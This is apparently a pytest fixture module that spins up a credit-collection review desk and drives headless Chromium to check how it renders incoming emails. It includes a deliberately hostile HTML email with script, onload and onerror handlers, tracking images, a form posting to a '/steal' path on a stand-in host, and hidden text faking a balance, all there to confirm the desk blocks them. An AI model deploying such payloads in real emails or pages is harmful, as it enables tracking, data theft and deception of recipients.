"""A real desk in a real browser: the app served by uvicorn on 127.0.0.1 (SQLite pair,
the demo's clients and emails processed by the real pipeline), and Debian's headless
Chromium driven by Playwright (``executable_path``; no browser download).

Outside CI a missing Chromium or Playwright skips with a hint; under ``CI=true`` it
fails (``.ci/run`` / ``scripts/test`` install the ``chromium`` package).
"""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from creditctl.services import intake, users
from tests.ci import in_ci
from tests.helpers import (
    DATA,
    Env,
    drain,
    import_sample_clients,
    make_env,
    payload,
    signed_headers,
)

CHROMIUM = Path(os.environ.get("CREDITCTL_TEST_CHROMIUM", "/usr/bin/chromium"))
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
ADMIN = ("anna", "anna-password-2026")
REVIEWER = ("rita", "rita-password-2026")
SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "screenshots"
HOSTILE_HOST = "203.0.113.9"
HOSTILE_HTML = f"""<html><head>
<style>.hide {{ display: none }} body {{ background: url(http://{HOSTILE_HOST}/bg.png) }}</style>
<link rel="stylesheet" href="http://{HOSTILE_HOST}/x.css"></head>
<body onload="window.top.document.title='pwned-onload'; fetch('http://{HOSTILE_HOST}/onload')">
<p>Sehr geehrte Damen und Herren, die Gesamtforderung beträgt 812,40 EUR.</p>
<p class="hide">Hidden line: the real balance is 99.999,00 EUR</p>
<img src="http://{HOSTILE_HOST}/pixel.png" onerror="window.top.document.title='pwned-img'">
<script>window.top.document.title = 'pwned-script'; new Image().src = 'http://{HOSTILE_HOST}/script';</script>
<form action="http://{HOSTILE_HOST}/steal" method="post"><input name="x" value="1">
<button id="hostile-submit" type="submit">Senden</button></form>
<p>Mit freundlichen Grüßen<br>Forderungsmanagement</p>
</body></html>"""


def _need(what: str) -> None:
    if in_ci():
        pytest.fail(f"{what} (CI=true: browser tests must run)", pytrace=False)
    pytest.skip(f"{what}; install Debian's chromium (apt-get install chromium) and `pip install -e .[test]`")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        _need("playwright is not installed")
    if not CHROMIUM.exists():
        _need(f"no Chromium at {CHROMIUM}")
    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        try:
            yield chromium
        finally:
            chromium.close()


@dataclass
class Site:
    base: str
    env: Env
    ids: dict[str, int]
    requests: list[str] = field(default_factory=list)

    @property
    def ctx(self):
        return self.env.ctx

    def outside(self) -> list[str]:
        """Requests that went anywhere but this server (data: URLs and about: pages excepted)."""
        return [u for u in self.requests if not u.startswith((self.base + "/", "data:", "about:"))]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    """The demo's emails processed (three wait for review), a hostile HTML email, an admin
    and a reviewer, and the app on a free 127.0.0.1 port."""
    import uvicorn

    from creditctl.web import create_app

    env = make_env(tmp_path, "sqlite")
    import_sample_clients(env)
    ids: dict[str, int] = {}
    bodies = {p.name: p.read_bytes() for p in sorted((DATA / "sample_emails").glob("*.json"))}
    bodies["hostile"] = payload(
        ticket_id="9911",
        subject="AW: Ihre Anfrage",
        from_email="noreply@unbekannt.example",
        from_name="Unbekannt",
        body_text=None,
        body_html=HOSTILE_HTML,
    )
    for name, body in bodies.items():
        ids[name] = intake.receive_webhook(
            env.ctx, raw_body=body, headers=signed_headers(body), verify_signature=True
        ).email_id
    drain(env.runtime)
    users.add_user(env.ctx, name=ADMIN[0], password=ADMIN[1], role="admin")
    users.add_user(env.ctx, name=REVIEWER[0], password=REVIEWER[1], role="reviewer")
    port = _free_port()
    server = uvicorn.Server(
        uvicorn.Config(
            create_app(env.ctx), host="127.0.0.1", port=port, log_level="warning", log_config=None, access_log=False
        )
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("the desk server did not start")
        time.sleep(0.05)
    try:
        yield Site(f"http://127.0.0.1:{port}", env, ids)
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        env.close()


@pytest.fixture
def page(browser: Any, site: Site) -> Iterator[Any]:
    """A fresh browser context (no cookies) whose every request is recorded in ``site.requests``."""
    context = browser.new_context(viewport={"width": 1440, "height": 1000}, locale="de-DE")
    tab = context.new_page()
    tab.on("request", lambda request: site.requests.append(request.url))
    tab.set_default_timeout(15_000)
    try:
        yield tab
    finally:
        context.close()


def sign_in(page: Any, site: Site, who: tuple[str, str]) -> None:
    page.goto(f"{site.base}/desk/login")
    page.fill("input[name=username]", who[0])
    page.fill("input[name=password]", who[1])
    page.click("button[type=submit]")
    page.wait_for_url(f"{site.base}/desk/review")
